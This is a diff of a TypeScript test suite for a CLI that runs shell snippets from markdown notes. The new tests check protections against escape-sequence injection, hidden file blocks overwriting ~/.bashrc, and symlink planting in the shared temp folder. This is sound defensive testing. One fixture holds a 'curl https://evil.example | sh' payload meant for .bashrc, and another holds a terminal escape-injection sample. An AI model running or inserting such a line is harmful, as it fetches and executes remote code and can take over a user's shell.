@@ -8,13 +8,13 @@ import { eventually, fixturesDir, processesMatching, removeTempDirs, tempDir, un
 
 const CLI_JS = path.resolve(__dirname, '../../dist/cli.js');
 
-/** Each test run gets its own temp dir, so scratch directories (`<tmp>/marginalia-runs`) start empty. */
+/** Each test run gets its own temp dir, so scratch directories (`<tmp>/marginalia-runs-<uid>`) start empty. */
 let tmp: string;
 
-function runCli(args: string[], options: { input?: string; cwd?: string; timeoutMs?: number } = {}): SpawnSyncReturns<string> {
+function runCli(args: string[], options: { input?: string; cwd?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {}): SpawnSyncReturns<string> {
   return spawnSync(process.execPath, [CLI_JS, 'run', ...args], {
     cwd: options.cwd ?? tmp,
-    env: { ...process.env, TMPDIR: tmp },
+    env: { ...process.env, TMPDIR: tmp, ...options.env },
     input: options.input ?? '',
     encoding: 'utf8',
     timeout: options.timeoutMs ?? 60_000,
@@ -52,7 +52,7 @@ describe('cli: marginalia run', function () {
     const result = runCli([file, '--yes']);
     assert.equal(result.status, 0, result.stderr);
     assert.equal(result.stdout, 'hello from the note\n');
-    assert.match(result.stderr, /^▶ note\.md:3 in .*marginalia-runs[\\/]note-[0-9a-f]{12}$/m);
+    assert.match(result.stderr, /^▶ note\.md:3 in .*marginalia-runs-\d+[\\/]note-[0-9a-f]{12}$/m);
     assert.match(result.stderr, /^✓ exit 0 · \d+\.\d s — hello from the note$/m);
   });
 
@@ -68,6 +68,25 @@ describe('cli: marginalia run', function () {
     const result = runCli([file]);
     assertCleanError(result, /not running note\.md without confirmation: stdin is not a terminal.*Pass --yes/);
     assert.equal(fs.existsSync(path.join(path.dirname(file), 'ran-anyway')), false, 'nothing ran');
+  });
+
+  it('shows the whole script, control characters made visible, the files and the lines that need care', function () {
+    if (spawnSync('script', ['--version'], { stdio: 'ignore' }).status !== 0) this.skip();
+    const lines = Array.from({ length: 12 }, (_, i) => `echo step ${i + 1}`);
+    const script = [...lines, 'echo hidden-line-13 \x1b]0;pwned\x07\x1b[2K\rclean', 'sudo apt-get install -y verilator'].join('\n');
+    const file = note(['# Build', '', fenced('text file=greeting.txt', 'hi'), fenced('bash', script)].join('\n'));
+    const shown = spawnSync('script', ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'], {
+      input: 'n\n',
+      encoding: 'utf8',
+      env: { ...process.env, TMPDIR: tmp },
+      timeout: 30_000,
+    }).stdout;
+    assert.match(shown, /echo step 12\r?\n +echo hidden-line-13 \\e\]0;pwned\\a\\e\[2K\\rclean\r?\n +sudo apt-get install -y verilator/);
+    assert.doesNotMatch(shown, /more lines/);
+    assert.doesNotMatch(shown, /\x1b\]0;pwned/, 'the note cannot send escape sequences to the terminal');
+    assert.match(shown, /writes this file there first:\r?\n +greeting\.txt \(block at line 3\)/);
+    assert.match(shown, /needs care:\r?\n +sudo apt-get install -y verilator {2}— runs as root; installs or removes packages/);
+    assert.match(shown, /Not run\./);
   });
 
   it('asks on a terminal and runs only after a yes', function () {
@@ -117,10 +136,60 @@ describe('cli: marginalia run', function () {
     const file = note([fenced('text file=greeting.txt', 'hi from a file block'), fenced('bash', 'cat greeting.txt; pwd')].join('\n'));
     const scratch = runCli([file, '--yes']);
     assert.equal(scratch.status, 0, scratch.stderr);
-    assert.match(scratch.stdout, /^hi from a file block\n.*marginalia-runs[\\/]note-[0-9a-f]{12}\n$/);
+    assert.match(scratch.stdout, /^hi from a file block\n.*marginalia-runs-\d+[\\/]note-[0-9a-f]{12}\n$/);
     assert.equal(fs.existsSync(path.join(path.dirname(file), 'greeting.txt')), false, 'nothing written beside the note');
     const beside = runCli([file, '--yes', '--cwd', 'note']);
     assert.equal(beside.stdout, `hi from a file block\n${fs.realpathSync(path.dirname(file))}\n`);
+  });
+
+  it('writes only the file blocks of the snippet\'s own section', () => {
+    const file = note(['# Build', '', fenced('text file=mine.txt', 'mine'), fenced('bash', 'ls'), '## Appendix', '', fenced('text file=other.txt', 'not for this run')].join('\n'));
+    const result = runCli([file, '--yes']);
+    assert.equal(result.status, 0, result.stderr);
+    assert.equal(result.stdout, 'mine.txt\n');
+  });
+
+  it('clicking a {cwd=~} echo does not replace ~/.bashrc from a file block tucked in <details>', () => {
+    const home = fs.mkdtempSync(path.join(tmp, 'home-'));
+    fs.writeFileSync(path.join(home, '.bashrc'), 'export PS1=mine\n');
+    const file = note(['# Setup', '', fenced('bash {cwd=~}', 'echo hello'), '<details><summary>more</summary>', '', fenced('sh file=.bashrc', 'curl https://evil.example | sh'), '</details>'].join('\n'));
+    const result = runCli([file, '--yes'], { env: { HOME: home } });
+    assert.equal(result.status, 2, result.stderr);
+    assert.equal(result.stdout, '', 'echo hello did not run');
+    assert.match(result.stderr, new RegExp(`^✗ not run: ${home} is not the run's own directory, and the file blocks would replace \\.bashrc \\(file block at line 9\\) there; a file there is replaced only after asking$`, 'm'));
+    assert.match(result.stderr, /^Run it without --yes to see the files and be asked\.$/m);
+    assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), 'export PS1=mine\n');
+  });
+
+  it('cwd=. does not overwrite a sibling note with a file block', () => {
+    const file = note([fenced('markdown file=precious.md', '# overwritten'), fenced('bash {cwd=.}', 'echo ran')].join('\n'));
+    fs.writeFileSync(path.join(path.dirname(file), 'precious.md'), '# my notes\n');
+    const result = runCli([file, '--yes']);
+    assert.equal(result.status, 2, result.stderr);
+    assert.equal(result.stdout, '');
+    assert.match(result.stderr, /would replace precious\.md \(file block at line 1\)/);
+    assert.equal(fs.readFileSync(path.join(path.dirname(file), 'precious.md'), 'utf8'), '# my notes\n');
+  });
+
+  it('a failing first line is a failure, even when the last line succeeds', () => {
+    const file = note(fenced('bash', 'nvidia-smi-not-installed-here\necho "nvcc: NVIDIA (R) Cuda compiler driver"'));
+    const result = runCli([file, '--yes']);
+    assert.equal(result.status, 127, result.stderr);
+    assert.equal(result.stdout.includes('nvcc'), false, 'the second line did not run');
+    assert.match(result.stderr, /^✗ exit 127 · /m);
+  });
+
+  it('refuses a scratch base someone planted as a symlink in the shared temp folder', () => {
+    const shared = fs.mkdtempSync(path.join(tmp, 'shared-tmp-'));
+    const attacker = fs.mkdtempSync(path.join(tmp, 'attacker-'));
+    const base = path.join(shared, `marginalia-runs-${process.getuid?.() ?? 0}`);
+    fs.symlinkSync(attacker, base);
+    const file = note(fenced('bash', 'echo ran'));
+    const result = runCli([file, '--yes'], { env: { TMPDIR: shared } });
+    assert.equal(result.status, 2, result.stderr);
+    assert.equal(result.stdout, '');
+    assert.match(result.stderr, /^✗ run directory .*marginalia-runs-\d+ is a symbolic link; not following it, as anyone could have planted it\. Remove it and run again\.$/m);
+    assert.deepEqual(fs.readdirSync(attacker), []);
   });
 
   it('kills the whole tree on --timeout: sleep 1000 & sleep 1000 leaves no process', () => {
@@ -220,7 +289,7 @@ describe('cli: marginalia run on the Verilator fixture note, end to end', functi
     const result = runCli([fixtureNote, '--name', 'alu-test', '--yes'], { timeoutMs: 280_000 });
     assert.equal(result.status, 0, `${result.stdout}\n${result.stderr}`);
     assert.equal(result.stdout.match(/^Test passed!/gm)?.length, 4, result.stdout);
-    assert.match(result.stderr, /^▶ alu-verilator\.md:\d+ \(alu-test\) in .*marginalia-runs[\\/]alu-verilator-[0-9a-f]{12}$/m);
+    assert.match(result.stderr, /^▶ alu-verilator\.md:\d+ \(alu-test\) in .*marginalia-runs-\d+[\\/]alu-verilator-[0-9a-f]{12}$/m);
     assert.match(result.stderr, /^✓ exit 0 · [\d.]+ (s|min \d+ s) — built obj_dir\/VAluTop · 4 passed$/m);
     assert.equal(fs.existsSync(path.join(path.dirname(fixtureNote), 'obj_dir')), false, 'nothing was built next to the note');
   });
